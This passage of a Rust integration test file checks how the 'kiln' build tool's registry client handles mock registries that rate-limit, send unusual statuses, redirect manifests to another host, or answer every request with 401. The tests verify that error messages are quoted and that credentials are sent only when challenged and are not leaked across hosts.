                headers: vec![("Content-Type", "application/json".into())],
                body: body.to_string().into_bytes(),
            };
        }
        base(req)
    })
}

/// Docker Hub's answer past its pull limit is a 429 whose body says so
/// and what to do. kiln reads manifests itself since cb1d86a, and said
/// only the status ("code: 429, message: Too Many Requests"): the
/// registry's own words, which oci-client's error carried, were dropped.
#[test]
fn a_registry_refusing_a_manifest_is_quoted() {
    const SAID: &str = "You have reached your pull rate limit; authenticate to raise it";
    let hostile = refusing(429, "TOOMANYREQUESTS", SAID);
    let pin = Digest::of(b"some manifest");
    let spec = format!(
        "base b {{ image \"{}/img@{pin}\" }}\nstage s {{ from b; run \"true\" }}\n",
        hostile.host
    );
    // As one line: the report wraps long messages.
    let said = |out: &Output| {
        let err = stderr(out);
        let words: Vec<&str> = err.split_whitespace().filter(|w| *w != "│").collect();
        (words.join(" ").contains(SAID), err)
    };
    let p = Project::new(&spec);
    let out = p.kiln(&["build"]);
    assert!(!out.status.success(), "the base cannot be pulled");
    let (quoted, err) = said(&out);
    assert!(quoted, "{err}");
    // And `kiln lock`, which resolves a tag the same way.
    let tagged = Project::new(&format!("base b {{ image \"{}/img:1\" }}\n", hostile.host));
    let out = tagged.kiln(&["lock"]);
    assert!(!out.status.success(), "the tag cannot be resolved");
    let (quoted, err) = said(&out);
    assert!(quoted, "{err}");
}

/// A manifest is answered with 200 OK. Any other success (a 203 from a
/// proxy that rewrote it, a 206 with part of it) is refused with its
/// status and what the registry said, not read as a manifest that then
/// fails its digest.
#[test]
fn a_manifest_answered_with_another_success_status_is_refused_as_such() {
    const SAID: &str = "rewritten by a proxy";
    let hostile = refusing(203, "UNKNOWN", SAID);
    let pin = Digest::of(b"some manifest");
    let spec = format!(
        "base b {{ image \"{}/img@{pin}\" }}\nstage s {{ from b; run \"true\" }}\n",
        hostile.host
    );
    let out = Project::new(&spec).kiln(&["build"]);
    assert!(!out.status.success(), "the base cannot be pulled");
    let err = stderr(&out);
    let words = err
        .split_whitespace()
        .filter(|w| *w != "│")
        .collect::<Vec<_>>()
        .join(" ");
    assert!(words.contains("203") && words.contains(SAID), "{err}");
    assert!(!words.contains("does not match"), "{err}");
}

/// `kiln build` of a stage run in a base pinned at `hostile`, with
/// credentials for it in Docker's config: what it said.
fn pull_base_from(hostile: &Hostile) -> Output {
    let dir = tempfile::tempdir().expect("docker config");
    let config = docker_config(dir.path(), &hostile.host);
    let pin = Digest::of(b"some manifest");
    let spec = format!(
        "base b {{ image \"{}/img@{pin}\" }}\nstage s {{ from b; run \"true\" }}\n",
        hostile.host
    );
    let p = Project::new(&spec);
    p.cmd(&["build"])
        .env("DOCKER_CONFIG", &config)
        .output()
        .expect("run kiln")
}

/// A registry that redirects its manifests to another host: the
/// credentials for the first are not sent to the second (reqwest drops
/// Authorization on a redirect off the host, as oci-client's did).
#[test]
fn a_manifest_redirected_to_another_host_does_not_take_the_credentials() {
    let seen: Arc<std::sync::Mutex<Vec<Option<String>>>> = Default::default();
    let s = seen.clone();
    let elsewhere = Hostile::start(move |req| {
        let auth = req.header("Authorization").map(str::to_owned);
        s.lock().expect("lock").push(auth);
        base(req)
    });
    let to = elsewhere.host.clone();
    let hostile = Hostile::start(move |req| {
        if req.header("Authorization").is_none() {
            return Reply::Full {
                status: 401,
                headers: vec![("WWW-Authenticate", r#"Basic realm="kiln-test""#.into())],
                body: Vec::new(),
            };
        }
        if req.path.contains("/manifests/") {
            return Reply::Full {
                status: 307,
                headers: vec![("Location", format!("http://{to}{}", req.path))],
                body: Vec::new(),
            };
        }
        base(req)
    });
    let out = pull_base_from(&hostile);
    assert!(!out.status.success(), "{}", stderr(&out));
    let seen = seen.lock().expect("lock");
    assert!(!seen.is_empty(), "the redirect was not followed");
    assert!(seen.iter().all(Option::is_none), "sent elsewhere: {seen:?}");
}

/// A registry that refuses every manifest with a 401 whatever is sent:
/// asked twice (the authorization learnt again once), then denied.
#[test]
fn a_registry_that_always_answers_401_is_asked_twice_and_denies() {
    let asked = Arc::new(AtomicU64::new(0));
    let a = asked.clone();
    let hostile = Hostile::start(move |req| {
        if req.path.contains("/manifests/") {
            a.fetch_add(1, Ordering::SeqCst);
        }
        Reply::Full {
            status: 401,
            headers: vec![("WWW-Authenticate", r#"Basic realm="kiln-test""#.into())],
            body: br#"{"errors":[{"code":"UNAUTHORIZED","message":"no"}]}"#.to_vec(),
        }
    });
    let out = pull_base_from(&hostile);
    let err = stderr(&out);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("kiln::registry::denied"), "{err}");
    assert_eq!(asked.load(Ordering::SeqCst), 2, "{err}");
}

/// A registry that asks for no credentials (its `/v2/` answers without a
/// challenge) does not get them: oci-client sent them only where the
/// registry's challenge asked for Basic, as Docker and containerd do.
#[test]
fn a_registry_that_asks_for_no_credentials_is_sent_none() {
    let seen: Arc<std::sync::Mutex<Vec<Option<String>>>> = Default::default();
    let s = seen.clone();
    let hostile = Hostile::start(move |req| {
        s.lock()
            .expect("lock")
            .push(req.header("Authorization").map(str::to_owned));
        base(req)
    });
    let out = pull_base_from(&hostile);
    assert!(!out.status.success(), "{}", stderr(&out));
    let seen = seen.lock().expect("lock");
    assert!(seen.iter().all(Option::is_none), "sent: {seen:?}");
}

/// A registry whose `/v2/` asks for Basic credentials gets them with its
/// first manifest request, as from oci-client: one that hides a private
/// repository from anonymous requests (404, not 401) must not be asked
/// without them first.
#[test]
fn a_registry_challenging_for_basic_on_v2_gets_the_credentials_at_once() {
    let seen: Arc<std::sync::Mutex<Vec<Option<String>>>> = Default::default();
    let s = seen.clone();
    let hostile = Hostile::start(move |req| {
        let auth = req.header("Authorization").map(str::to_owned);
        if req.path == "/v2/" && auth.is_none() {
            return Reply::Full {
                status: 401,
                headers: vec![("WWW-Authenticate", r#"Basic realm="kiln-test""#.into())],
                body: Vec::new(),
            };
        }
        if req.path.contains("/manifests/") {
            s.lock().expect("lock").push(auth);
        }
        base(req)
    });
    let out = pull_base_from(&hostile);
    assert!(!out.status.success(), "{}", stderr(&out));
    let seen = seen.lock().expect("lock");
    assert!(seen.first().is_some_and(Option::is_some), "{seen:?}");
}
